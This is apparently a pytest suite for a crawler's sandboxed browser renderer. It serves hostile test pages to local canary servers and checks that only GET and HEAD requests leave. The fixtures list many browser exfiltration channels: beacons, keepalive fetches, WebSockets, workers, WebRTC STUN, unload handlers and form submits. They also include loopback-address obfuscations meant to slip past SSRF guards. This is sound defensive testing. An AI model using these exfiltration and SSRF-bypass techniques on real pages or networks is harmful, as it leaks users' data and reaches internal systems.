"""The renderer on hostile and ordinary pages, with a real browser and real sockets: what it brings home, and
that nothing but GET and HEAD ever leaves."""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import ipaddress
import os
import re
import signal
import socket
import ssl
import threading
import time
from collections.abc import Callable, Coroutine, Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, TypeVar

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from claims.model import NetworkSettings
from crawler.browser import renderer as browser
from crawler.browser.limits import PageLimits
from crawler.browser.renderer import RenderedPage, Renderer, find_browser
from tests.crawler.conftest import ENOUGH_TEXT
from tests.depth import some

pytestmark = pytest.mark.sockets

T = TypeVar("T")

SITE, SECURE, CANARY = "127.63.0.1", "127.63.0.2", "127.63.0.3"

PAGES: dict[str, str] = {
    "/app": """<title>app</title><div id=root></div><script>
        addEventListener('hashchange', draw);
        function draw() { root.innerHTML = '<form><h1>' + decodeURIComponent(location.hash) + '</h1><input name=a></form>' }
        setTimeout(draw, 50);</script>""",
    "/shadow": f"""<title>shadow</title>{ENOUGH_TEXT}"""
    + """<x-form><b>slotted</b></x-form><iframe src=/inner></iframe><script>
        customElements.define('x-form', class extends HTMLElement { constructor() { super();
            this.attachShadow({mode: 'open'}).innerHTML = '<input name=in-shadow><slot></slot>' } });
        Array.prototype.join = () => 'LIE';
        Object.defineProperty(Element.prototype, 'outerHTML', {get() { return 'LIE' }});
        JSON.stringify = () => 'LIE'; console.error('broken ' + 'x'.repeat(5000));</script>""",
    "/inner": "<p>inside the frame</p>",
    "/huge": "<title>huge</title><script>fetch('/bytes').then(r => r.text())</script>",
    "/wide": "<title>wide</title><meta name=viewport content='width=device-width'><div style='width:700px'>wide</div>",
    "/tall": "<title>tall</title><div style='height:20000px;background:linear-gradient(red,blue)'>tall</div>",
}

# Every way out of a page that we know. PLAIN and SECURE are origins; a server that sees any of it has seen a leak.
LEAKS = """<title>leaks</title>
<link rel=dns-prefetch href=//leak.invalid><link rel=preconnect href=PLAIN>
<a id=ping href=#here ping=/leak-ping>ping</a>
<form id=own action=/leak-form method=post><input name=a value=b></form>
<form id=frame action=SECURE/leak-frame method=post target=inside><input name=a value=b></form>
<form id=popup action=SECURE/leak-popup method=post target=_blank><input name=a value=b></form>
<iframe name=inside></iframe>
<iframe sandbox="allow-scripts allow-forms" srcdoc="<form id=f method=post action=SECURE/leak-sandbox></form><script>f.submit()</script>"></iframe>
<script>
const swallow = promise => Promise.resolve(promise).catch(() => 0);
for (const origin of ['', 'PLAIN', 'SECURE']) {
  for (const method of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])
    swallow(fetch(origin + '/leak-' + method, {method, body: method == 'OPTIONS' ? undefined : 'x'}));
  swallow(fetch(origin + '/leak-simple', {method: 'POST', mode: 'no-cors', body: 'x'}));
  swallow(fetch(origin + '/leak-keepalive', {method: 'POST', keepalive: true, body: 'x'}));
  swallow(fetch(origin + '/ok-preflight', {headers: {'x-own': '1'}}));
  const xhr = new XMLHttpRequest(); xhr.open('POST', origin + '/leak-xhr'); xhr.send('x');
  navigator.sendBeacon(origin + '/leak-beacon', 'x');
}
for (const where of ['PLAIN', 'SECURE']) {
  try { new WebSocket(where.replace('http', 'ws') + '/leak-socket'); } catch (error) {}
  try { new WebTransport(where.replace('http:', 'https:') + '/leak-transport'); } catch (error) {}
}
const code = `for (const origin of ['PLAIN', 'SECURE', '${location.origin}']) {
  fetch(origin + '/leak-worker', {method: 'POST', body: 'x'}).catch(() => 0);
  try { new WebSocket(origin.replace('http', 'ws') + '/leak-worker-socket') } catch (error) {}
  try { new WebTransport(origin.replace('http:', 'https:') + '/leak-worker-transport') } catch (error) {}
}`;
const blob = URL.createObjectURL(new Blob([code]));
try { new Worker(blob) } catch (error) {}
try { new Worker('/worker.js') } catch (error) {}
try { new SharedWorker('/worker.js') } catch (error) {}
if (navigator.serviceWorker) swallow(navigator.serviceWorker.register('/worker.js'));
try {
  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:CANARY:STUN'}]});
  peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
} catch (error) {}
try { window.open('SECURE/leak-window') } catch (error) {}
const fresh = document.createElement('iframe'); document.body.append(fresh);
const bare = fresh.contentWindow;
swallow(bare.fetch('SECURE/leak-bare', {method: 'POST', mode: 'no-cors', body: 'x'}));
try { bare.navigator.sendBeacon('SECURE/leak-bare-beacon', 'x') } catch (error) {}
try { new bare.SharedWorker(location.origin + '/worker.js?bare') } catch (error) {}
try { swallow(bare.navigator.serviceWorker.register(location.origin + '/worker.js?service')) } catch (error) {}
try { new bare.WebSocket('SECURE/leak-bare-socket'.replace('http', 'ws')) } catch (error) {}
try { new bare.RTCPeerConnection({iceServers: [{urls: 'stun:CANARY:STUN'}]}).createOffer({offerToReceiveAudio: true}) } catch (error) {}
try { fetchLater('SECURE/leak-later', {method: 'POST', body: 'x', activateAfter: 0}) } catch (error) {}
const inner = URL.createObjectURL(new Blob([code.replaceAll('leak-worker', 'leak-nested')]));
const nest = `for (const make of [() => new Worker('${inner}'), () => new Worker('${inner}', {type: 'module'})])
  try { make() } catch (error) {}`;
for (const hand of [Worker, Worker.prototype.constructor, bare.Worker, bare.Worker.prototype.constructor])
  for (const type of ['classic', 'module'])
    try { new hand(URL.createObjectURL(new Blob([nest])), {type}) } catch (error) {}
document.getElementById('ping').click();
document.getElementById('frame').submit(); document.getElementById('popup').submit();
setTimeout(() => { document.getElementById('own').submit(); setTimeout(() => document.body.append('still here'), 50) }, 200);
</script>"""

# What a document says while another takes its place. OWN: the page's own origin.
LAST_WORDS = """<title>last words</title>
<a id=ping href=#here ping=/leak-ping>ping</a>
<form id=form action=/leak-form method=post><input name=a value=b></form>
<iframe id=bare></iframe><iframe id=inner src=/frame-that-leaves></iframe>
<script>
const quiet = act => { try { Promise.resolve(act()).catch(() => 0) } catch (error) {} };
const worker = new Worker(URL.createObjectURL(new Blob([`onmessage = ({data}) => {
  fetch(data + '/leak-worker', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}).catch(() => 0);
  fetch(data + '/leak-worker-put', {method: 'PUT', keepalive: true, body: 'x'}).catch(() => 0); };`])));
const say = when => {
  for (const origin of [location.origin, 'PLAIN', 'SECURE']) {
    const to = word => origin + '/leak-' + word + '-' + when;
    quiet(() => navigator.sendBeacon(to('beacon'), 'x'));
    quiet(() => navigator.sendBeacon(to('typed'), new Blob(['{}'], {type: 'application/json'})));
    quiet(() => fetch(to('keepalive'), {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}));
    quiet(() => fetch(to('plain'), {method: 'POST', body: 'x'}));
    quiet(() => fetch(origin + '/ok-asked-first', {keepalive: true, headers: {'x-own': '1'}}));
    quiet(() => bare.contentWindow.fetch(to('bare'), {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}));
    quiet(() => bare.contentWindow.navigator.sendBeacon(to('bare-beacon'), 'x'));
    for (const method of ['DELETE', 'PUT', 'PATCH']) quiet(() => fetch(to(method), {method, keepalive: true}));
    quiet(() => { const xhr = new XMLHttpRequest(); xhr.open('POST', to('xhr'), false); xhr.send('x') });
    quiet(() => worker.postMessage(origin));
  }
  quiet(() => document.getElementById('ping').click());
  quiet(() => form.submit());
  document.body.append(Object.assign(new Image(), {src: '/forbidden.png'}));
};
for (const when of ['pagehide', 'unload']) addEventListener(when, () => say(when));
setTimeout(() => { LEAVING }, 250);
</script>"""
LEAVINGS = {
    "reload": "if (performance.getEntriesByType('navigation')[0].type !== 'reload') location.reload()",
    "another host": "location = 'OTHER/end'",
    "a frame that leaves": "inner.src = '/end'; bare.remove()",
    "the visit's end": "",
    "another page": "location = '/end'",
    "a form": "document.body.append(Object.assign(document.createElement('form'), {id: 'go', action: '/end'})); go.submit()",
    "a frame that is removed": "inner.remove()",
    "written anew": "document.open(); document.write('end'); document.close()",
}
FEW_LEAVINGS = 4  # of https alone, where the proxy sees nothing; the others are thorough
FRAME_THAT_LEAVES = """<script>addEventListener('pagehide', () => {
  for (const origin of [location.origin, 'PLAIN', 'SECURE']) {
    navigator.sendBeacon(origin + '/leak-beacon-frame', 'x');
    fetch(origin + '/leak-delete-frame', {method: 'DELETE', keepalive: true}).catch(() => 0);
  } })</script>"""

WORKER = """fetch('/leak-worker-file', {method: 'POST', body: 'x'}).catch(() => 0);
self.addEventListener && addEventListener('install', () => fetch('/leak-service', {method: 'POST', body: 'x'}));"""


# How pages start their workers; each says what it could do, and whether it could make another.
WORKERS = (
    f"""<title>workers</title>{ENOUGH_TEXT}"""
    + """<ul></ul><script>
const say = word => document.querySelector('ul').append(Object.assign(document.createElement('li'), {textContent: word}));
const hear = worker => { worker.onmessage = event => say(event.data); worker.onerror = event => say('error ' + event.message); };
const blob = URL.createObjectURL(new Blob(['postMessage("blob " + typeof Worker)']));
hear(new Worker(blob)); URL.revokeObjectURL(blob);
hear(new Worker('/workers/file.js?a=1', {name: 'mine'}));
hear(new Worker('/workers/module.js', {type: 'module'}));
hear(new Worker('data:text/javascript,postMessage("data " %2B typeof Worker)'));
const echo = new Worker(URL.createObjectURL(new Blob(['onmessage = event => postMessage("echo " + event.data)'])));
hear(echo); echo.postMessage('at once');
try { new Worker('https://elsewhere.test/x.js') } catch (error) { say(error.name) }
try { new Worker() } catch (error) { say(error.name + ' of none') }
say(echo instanceof Worker);
</script>"""
)
WORKER_FILES = {
    "/workers/file.js": "importScripts('part.js'); fetch('said.txt').then(said => said.text()).then(said =>"
    " postMessage('file ' + typeof Worker + part + said + location.search + name))",
    "/workers/part.js": "part = ' part '",
    "/workers/said.txt": "said ",
    "/workers/module.js": "import { word } from './word.js'; postMessage('module ' + typeof Worker + word)",
    "/workers/word.js": "export const word = ' word'",
}


# It asks each third of a second, and as on a loaded machine its timers come a second late; then it has its form.
STARVED = f"""<title>starved</title>{ENOUGH_TEXT}<script>
let asked = 0;
const ask = () => {{
  if (++asked > 3) return void document.write('<form><input name=at-last></form>');
  fetch('/state?' + asked);
  setTimeout(() => {{ const until = Date.now() + 1000; while (Date.now() < until); }}, 250);
  setTimeout(ask, 330);
}};
ask();
</script>"""


class Site:
    """A server that keeps what it was asked; pages come from PAGES, or from `extra`."""

    def __init__(self, address: str, context: ssl.SSLContext | None = None) -> None:
        self.seen: list[tuple[str, str]] = []
        self.credentials: list[str] = []
        self.extra: dict[str, tuple[int, dict[str, str], bytes]] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                site.seen.append((self.command, self.path))
                site.credentials += [name for name in self.headers if "authorization" in name.lower()]
                length = int(self.headers.get("content-length") or 0)
                self.rfile.read(length)
                status, headers, body = site.page(self.path.partition("?")[0])
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_OPTIONS = answer

            def log_message(self, *_: object) -> None:
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def handle_error(self, *_: object) -> None:
                pass

        self.server = Server((address, 0), Handler)
        if context is not None:
            self.server.socket = context.wrap_socket(
                self.server.socket, server_side=True, do_handshake_on_connect=False
            )
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def page(self, path: str) -> tuple[int, dict[str, str], bytes]:
        if path in self.extra:
            return self.extra[path]
        headers = {"Content-Type": "text/html; charset=utf-8", "Access-Control-Allow-Origin": "*"}
        return 200, headers, PAGES.get(path, "ok").encode()


def self_signed(folder: Path) -> ssl.SSLContext:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "secure.test")])
    now = dt.datetime.now(dt.UTC)
    names = [x509.DNSName("secure.test"), x509.IPAddress(ipaddress.ip_address(SECURE))]
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName(names), critical=False)
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    (folder / "pair.pem").write_bytes(private + made.public_bytes(serialization.Encoding.PEM))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "pair.pem")
    return context


class World:
    """The servers of these tests, and a renderer that lives as long as they do, in a loop of its own."""

    def __init__(self, folder: Path) -> None:
        self.site = Site(SITE)
        self.secure = Site(SECURE, self_signed(folder))
        self.canary = Site(CANARY)
        self.stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.stun.bind((CANARY, 0))
        self.stun.setblocking(False)
        self.loop = asyncio.new_event_loop()
        threading.Thread(target=self.loop.run_forever, daemon=True).start()
        self.renderer = self.run(self.start())

    async def start(self) -> Renderer:
        hosts = {"site.test": f"{SITE}:{self.site.port}", "secure.test": f"{SECURE}:{self.secure.port}"}
        network = NetworkSettings(allow_private=True, hosts=hosts)
        renderer = Renderer(
            executable=find_browser(),
            policy_settings=network,
            user_agent="govah/test",
            limits=PageLimits(still_seconds=0.4),
            contexts=3,
        )
        return await renderer.__aenter__()

    def run(self, work: Coroutine[Any, Any, T], seconds: float = 90) -> T:
        return asyncio.run_coroutine_threadsafe(work, self.loop).result(seconds)

    def render(self, url: str, *, picture: bool = False) -> RenderedPage:
        return self.run(self.renderer.render(url, full_page_screenshot=picture))

    def render_all(self, *urls: str, pictured: tuple[str, ...] = ()) -> list[RenderedPage]:
        """Side by side."""

        async def work() -> list[RenderedPage]:
            return await asyncio.gather(
                *(self.renderer.render(url, full_page_screenshot=url in pictured) for url in urls)
            )

        return self.run(work(), 240)

    def close(self) -> None:
        self.run(self.renderer.__aexit__(None, None, None))
        self.loop.call_soon_threadsafe(self.loop.stop)
        for site in (self.site, self.secure, self.canary):
            site.server.shutdown()
            site.server.server_close()
        self.stun.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = World(tmp_path_factory.mktemp("browser"))
    try:
        yield made
    finally:
        made.close()


EXTRA: dict[str, tuple[int, dict[str, str], bytes]] = {
    "/workers": (200, {"Content-Type": "text/html"}, WORKERS.encode()),
    **{
        path: (200, {"Content-Type": "text/javascript"}, text.encode()) for path, text in WORKER_FILES.items()
    },
    "/gallery": (
        200,
        {"Content-Type": "text/html"},
        (
            "<title>g</title>" + "".join(f"<img src=/thumb/{n}.jpg><img src=/thumb/{n}>" for n in range(400))
        ).encode(),
    ),
    "/bytes": (200, {"Content-Type": "text/plain"}, bytes(12 * 1024 * 1024)),
    "/file": (200, {"Content-Type": "application/zip", "Content-Disposition": "attachment"}, b"PK"),
    "/gone": (404, {"Content-Type": "text/html"}, b"<title>not here</title>"),
    "/moved": (302, {"Location": "/gone"}, b""),
    "/starved": (200, {"Content-Type": "text/html"}, STARVED.encode()),
    "/late": (
        200,
        {"Content-Type": "text/html"},
        b"<title>late</title><script>setTimeout(() => document.write('<form><input name=late></form>'), 1300)</script>",
    ),
}
MIXED = f"<title>mixed</title>{ENOUGH_TEXT}<script src=http://site.test/a.js></script><img src=http://site.test/b.png>"
ROUTE, TALL = "http://site.test/app#/services/12", "http://site.test/tall"
MIXED_URL, NOWHERE = "https://secure.test/mixed", "http://nowhere.test/"


@pytest.fixture(scope="module")
def pages(world: World) -> dict[str, RenderedPage]:
    """By address: pages that are visited for themselves alone, side by side; the tall one with its picture."""
    world.site.extra |= EXTRA
    world.secure.extra["/mixed"] = (200, {"Content-Type": "text/html"}, MIXED.encode())
    names = ("shadow", "workers", "gallery", "huge", "wide", "inner", "file", "moved", "late", "starved")
    urls = [ROUTE, TALL, MIXED_URL, NOWHERE, *(f"http://site.test/{name}" for name in names)]
    return dict(zip(urls, world.render_all(*urls, pictured=(TALL,)), strict=True))


def sent(site: Site) -> list[tuple[str, str]]:
    return [(method, path) for method, path in site.seen if method not in ("GET", "HEAD") or "leak" in path]


def test_the_browser_is_here_and_says_what_it_is(world: World) -> None:
    assert world.renderer.available, world.renderer.reason
    assert "chrom" in world.renderer.description


def test_a_hash_route_is_rendered_and_its_form_is_in_the_tree(pages: dict[str, RenderedPage]) -> None:
    page = pages[ROUTE]
    assert page.facts.finished and page.facts.failure is None
    assert (page.facts.status, page.facts.title) == (200, "app")
    assert page.facts.final_url == ROUTE
    assert b'<h1>#/services/12</h1><input name="a">' in page.dom
    assert page.facts.requests == (("GET", "http://site.test/app", "document", 200),)
    assert page.screenshot is None


def test_shadow_trees_and_frames_are_part_of_the_tree_and_the_page_cannot_lie_about_it(
    pages: dict[str, RenderedPage],
) -> None:
    page = pages["http://site.test/shadow"]
    assert b'<input name="in-shadow">' in page.dom
    assert b"<b>slotted</b>" in page.dom
    assert b"<p>inside the frame</p>" in page.dom
    assert b"LIE'" in page.dom and page.dom.count(b"LIE") == 3
    (note,) = page.facts.console
    assert note.startswith("error: broken") and len(note) <= 300


def test_nothing_but_get_and_head_leaves(world: World) -> None:
    origins = {
        "SECURE": f"https://{SECURE}:{world.secure.port}",
        "PLAIN": f"http://{CANARY}:{world.canary.port}",
        "CANARY": CANARY,
        "STUN": str(world.stun.getsockname()[1]),
    }
    body = LEAKS
    for name, value in origins.items():
        body = body.replace(name, value)
    page_of = {"Content-Type": "text/html", "Reporting-Endpoints": 'default="/leak-report"'}
    page_of["Content-Security-Policy-Report-Only"] = "img-src 'none'; report-uri /leak-csp; report-to default"
    for site in (world.site, world.secure):
        site.extra["/sieve"] = (200, page_of, body.encode() + b"<img src=/forbidden.png>")
        site.extra["/worker.js"] = (200, {"Content-Type": "text/javascript"}, WORKER.encode())
    for address in ("http://site.test/sieve", "https://secure.test/sieve"):
        page = world.render(address)  # one alone: each asks for more than the browser gives at once
        assert b"still here" in page.dom
        withheld = {url.rpartition("/")[2] for _, url in page.facts.would_send}
        assert {"leak-POST", "leak-form", "leak-frame", "leak-beacon", "leak-xhr", "leak-simple"} <= withheld
        assert page.facts.finished
    time.sleep(0.5)
    assert [sent(site) for site in (world.site, world.secure, world.canary)] == [[], [], []]
    with pytest.raises(BlockingIOError):
        world.stun.recv(100)
    # A read with a header of its own is allowed, and the question before it is answered at home.
    assert ("GET", "/ok-preflight") in world.secure.seen


def test_workers_do_their_work_and_make_none(pages: dict[str, RenderedPage]) -> None:
    page = pages["http://site.test/workers"]
    said = set(re.findall(r"<li>(.*?)</li>", page.dom.decode()))
    assert said == {
        "blob undefined",
        "file undefined part said ?a=1mine",
        "module undefined word",
        "data undefined",
        "echo at once",
        "SecurityError",
        "TypeError of none",
        "true",
    }


def leave(world: World, origin: str, leavings: Mapping[str, str]) -> dict[str, RenderedPage]:
    """A page that says its last words in every way, left in each of these; by the leaving."""
    plain, secure = f"http://{CANARY}:{world.canary.port}", f"https://{SECURE}:{world.secure.port}"
    site, other = world.site, "https://secure.test"
    if origin == other:
        site, other = world.secure, "http://site.test"
    head = {"Content-Type": "text/html", "Reporting-Endpoints": f'default="{secure}/leak-report"'}
    head["Report-To"] = f'{{"group": "nel", "max_age": 99, "endpoints": [{{"url": "{secure}/leak-nel"}}]}}'
    head["NEL"] = '{"report_to": "nel", "max_age": 99, "success_fraction": 1.0}'
    head["Content-Security-Policy-Report-Only"] = "img-src 'none'; report-uri /leak-csp; report-to default"

    def body(text: str) -> bytes:
        return text.replace("PLAIN", plain).replace("SECURE", secure).replace("OTHER", other).encode()

    site.extra["/frame-that-leaves"] = (200, {"Content-Type": "text/html"}, body(FRAME_THAT_LEAVES))
    for number, leaving in enumerate(leavings.values()):
        site.extra[f"/last-words/{number}"] = (200, head, body(LAST_WORDS.replace("LEAVING", leaving)))
    pages = world.render_all(*(f"{origin}/last-words/{number}" for number in range(len(leavings))))
    time.sleep(0.5)
    assert [sent(site) for site in (world.site, world.secure, world.canary)] == [[], [], []]
    return dict(zip(leavings, pages, strict=True))


def test_last_words_of_a_page_do_not_leave(world: World) -> None:
    pages = leave(world, "https://secure.test", dict(list(LEAVINGS.items())[:FEW_LEAVINGS]))
    for leaving in ("reload", "another host"):
        withheld = pages[leaving].facts.would_send
        assert ("POST", f"http://{CANARY}:{world.canary.port}/leak-beacon-pagehide") in withheld
        assert ("DELETE", "https://secure.test/leak-DELETE-pagehide") in withheld
        assert ("POST", "https://secure.test/leak-keepalive-unload") in withheld


@pytest.mark.thorough
@pytest.mark.parametrize("origin", ["http://site.test", "https://secure.test"])
def test_no_way_of_leaving_lets_last_words_out(world: World, origin: str) -> None:
    leave(world, origin, LEAVINGS)


# Each of these ways: test_browser_canary.py.
@pytest.mark.thorough
def test_addresses_inside_are_out_of_reach(tmp_path: Path) -> None:
    """With the policy on, a redirect, an image, a frame, a script and a fetch to loopback all end at the guard."""
    canary = Site("127.63.0.4")
    target = f"http://127.63.0.4:{canary.port}/seen"
    notations = [
        target,
        target.replace("127.63.0.4", "127.4128772"),
        target.replace("127.63.0.4", "[::ffff:127.63.0.4]"),
    ]

    async def render(url: str) -> RenderedPage:
        network = NetworkSettings(hosts={"inside.test": f"127.63.0.4:{canary.port}"})
        async with Renderer(
            executable=find_browser(), policy_settings=network, user_agent="govah/test"
        ) as renderer:
            assert renderer.available
            tags = "".join(
                f"<img src={t}><iframe src={t}></iframe><script src={t}></script>" for t in notations
            )
            page = await renderer.render(
                f"data:text/html,{tags}<link rel=prefetch href={target}>", full_page_screenshot=True
            )
            assert page.facts.finished
            return await renderer.render(url, full_page_screenshot=False)

    page = asyncio.run(render("http://inside.test/"))
    assert canary.seen == []
    assert (page.facts.finished, page.facts.failure, page.facts.status) == (False, "navigation", None)
    canary.server.shutdown()


def test_a_gallery_without_its_pictures_is_no_page_over_the_limit(pages: dict[str, RenderedPage]) -> None:
    page = pages["http://site.test/gallery"]
    assert page.facts.finished
    assert len(page.facts.requests) == 300


def test_bytes_of_a_page_are_bounded(pages: dict[str, RenderedPage]) -> None:
    assert pages["http://site.test/huge"].facts.failure == "limit"


def test_pictures_are_loaded_for_a_screenshot_only(world: World) -> None:
    world.site.extra["/picture"] = (
        200,
        {"Content-Type": "text/html"},
        b"<title>p</title><img src=/shown.png><img src=/shown>",
    )
    unseen = world.render("http://site.test/picture")
    assert ("GET", "/shown.png") not in world.site.seen
    assert ("GET", "http://site.test/shown.png", "image", None) in unseen.facts.requests
    page = world.render("http://site.test/picture", picture=True)
    assert {("GET", "/shown.png"), ("GET", "/shown")} <= set(world.site.seen)
    assert page.screenshot is not None and page.screenshot[:3] == b"\xff\xd8\xff"


def test_a_screenshot_is_bounded_in_height_and_overflow_is_measured(pages: dict[str, RenderedPage]) -> None:
    tall = pages[TALL]
    assert tall.screenshot is not None and tall.screenshot_size == (1366, 8000)
    assert tall.facts.overflow_px == 0
    assert pages["http://site.test/wide"].facts.overflow_px in range(340, 360)


def test_certificate_errors_and_insecure_requests_are_told(
    world: World, pages: dict[str, RenderedPage]
) -> None:
    page = world.render(MIXED_URL, picture=True)
    assert page.facts.certificate_error
    for one in (page, pages[MIXED_URL]):
        assert set(one.facts.insecure) == {"http://site.test/a.js", "http://site.test/b.png"}
    assert not pages["http://site.test/inner"].facts.certificate_error


def test_answers_that_are_no_page(pages: dict[str, RenderedPage]) -> None:
    assert pages["http://site.test/file"].facts.failure == "navigation"
    gone = pages["http://site.test/moved"]
    assert (gone.facts.status, gone.facts.final_url) == (404, "http://site.test/gone")
    nowhere = pages[NOWHERE]
    assert (nowhere.facts.failure, nowhere.facts.status) == ("navigation", None)


def test_a_page_that_draws_itself_from_a_timer_is_waited_for(pages: dict[str, RenderedPage]) -> None:
    page = pages["http://site.test/late"]
    assert page.facts.finished and b'<input name="late">' in page.dom


def test_a_page_that_asks_again_and_again_is_not_at_rest_between_two_questions(
    pages: dict[str, RenderedPage],
) -> None:
    page = pages["http://site.test/starved"]
    assert page.facts.finished and b'<input name="at-last">' in page.dom


def test_the_proxys_password_is_told_to_no_server(world: World) -> None:
    asking = {
        "Content-Type": "text/html",
        "WWW-Authenticate": "Basic realm=x",
        "Proxy-Authenticate": "Basic realm=guard",
    }
    for site in (world.site, world.secure):
        site.extra["/login"] = (401, asking, b"<title>login</title>who are you?")
        site.extra["/proxy"] = (407, asking, b"<title>proxy</title>who are you?")
        site.credentials.clear()
    origins = ("http://site.test", "https://secure.test")
    asked = world.render_all(*(origin + path for path in ("/login", "/proxy") for origin in origins))
    assert [page.facts.status for page in asked[:2]] == [401, 401]
    assert world.site.credentials == world.secure.credentials == []


@pytest.mark.parametrize(
    "way",
    some((
        "the page itself", "redirect", "redirect within", "frame", "frame's redirect", "base", "script's redirect", "script", "picture", "refresh", "its own script", "form", "window",
    ), 3),
)  # fmt: skip
@pytest.mark.parametrize("origin", ["http://{}site.test", "https://{}secure.test"])
def test_a_password_in_an_address_is_told_to_no_server(world: World, origin: str, way: str) -> None:
    asking = {"Content-Type": "text/html", "WWW-Authenticate": "Basic realm=x"}
    there = origin.format("visitor:PASSMARK@") + "/asks"
    text = {"Content-Type": "text/html"}
    pages: dict[str, tuple[int, dict[str, str], bytes]] = {
        "redirect": (302, {"Location": there}, b""),
        "redirect within": (302, {"Location": "/hop"}, b""),
        "frame": (200, text, f"<iframe src={there}></iframe>".encode()),
        "frame's redirect": (200, text, b"<iframe src=/hop></iframe>"),
        "script's redirect": (200, text, b"<script src=/hop></script><script>fetch('/hop')</script>"),
        "base": (200, text, f"<base href={there}/><iframe src=asks></iframe>".encode()),
        "script": (200, text, f"<script src={there}></script>".encode()),
        "picture": (200, text, f"<img src={there}>".encode()),
        "refresh": (200, text, f"<meta http-equiv=refresh content='0;url={there}'>".encode()),
        "its own script": (200, text, f"<script>location = '{there}'</script>".encode()),
        "window": (200, text, f"<script>open('{there}'); open('/hop')</script>".encode()),
        "form": (
            200,
            text,
            f"<form action={there}><input name=a></form><script>document.forms[0].submit()</script>".encode(),
        ),
    }
    for site in (world.site, world.secure):
        site.extra["/asks"] = site.extra["/asks/asks"] = (401, asking, b"<title>login</title>who are you?")
        site.extra["/hop"] = (302, {"Location": there}, b"")
        if way in pages:
            site.extra["/leads"] = pages[way]
        site.credentials.clear()
    page = world.render(there if way == "the page itself" else origin.format("") + "/leads", picture=True)
    assert page.facts.finished or page.facts.failure == "navigation"
    assert world.site.credentials == world.secure.credentials == []
    assert "PASSMARK" not in str(page.facts)


def folder_of(renderer: Renderer) -> list[Path]:
    child = renderer._child
    return [] if child is None else [child._folder]


def child_of(renderer: Renderer) -> int:
    child = renderer._child
    assert child is not None
    return child._process.pid


def test_a_killed_process_costs_at_most_one_page(world: World) -> None:
    before, asked = child_of(world.renderer), len(world.site.seen)
    waiting = asyncio.run_coroutine_threadsafe(
        world.renderer.render("http://site.test/app", full_page_screenshot=False), world.loop
    )
    wait_until(lambda: len(world.site.seen) > asked)
    os.kill(before, signal.SIGKILL)
    assert waiting.result(60).facts.finished, "the page under way is given a second process"
    page = world.render("http://site.test/app#again")
    assert page.facts.finished
    assert child_of(world.renderer) != before
    wait_until(lambda: not group_lives(before))


def wait_until(holds: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 60
    while not holds():
        assert time.monotonic() < deadline
        time.sleep(0.05)


def group_lives(leader: int) -> bool:
    """Any process of it; one that is dead, and that nobody has buried yet, does not live."""
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            state, _, group = (folder / "stat").read_text().rpartition(") ")[2].split()[:3]
            if int(group) == leader and state not in "ZX":
                return True
    return False


@pytest.mark.thorough
def test_the_process_is_renewed_after_its_pages_and_leaves_nothing_behind(world: World) -> None:
    folders: set[Path] = set()

    async def visits() -> tuple[list[bool], set[int]]:
        network = NetworkSettings(allow_private=True, hosts={"site.test": f"{SITE}:{world.site.port}"})
        processes = set()
        async with Renderer(
            executable=find_browser(), policy_settings=network, user_agent="govah/test", renew_after=2
        ) as renderer:
            finished = []
            for _ in range(2):
                both = (renderer.render("http://site.test/app", full_page_screenshot=False) for _ in range(2))
                finished += [page.facts.finished for page in await asyncio.gather(*both)]
                processes.add(child_of(renderer))
                folders.update(folder_of(renderer))
        return finished, processes

    finished, processes = asyncio.run(visits())
    assert finished == [True] * 4
    assert len(processes) == 2
    wait_until(lambda: not any(group_lives(process) for process in processes))
    assert folders and not any(folder.exists() for folder in folders)


def test_without_a_browser_it_says_so_and_pages_are_our_own_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser, "_STARTS", 1)

    async def attempt(executable: Path | None) -> tuple[bool, str, str | None]:
        async with Renderer(
            executable=executable, policy_settings=NetworkSettings(), user_agent="govah/test"
        ) as renderer:
            page = await renderer.render("http://site.test/", full_page_screenshot=False)
            return renderer.available, renderer.reason, page.facts.failure

    available, reason, failure = asyncio.run(attempt(None))
    assert (available, failure) == (False, "own_error") and reason
    available, reason, failure = asyncio.run(attempt(tmp_path / "no-browser"))
    assert (available, failure) == (False, "own_error") and reason
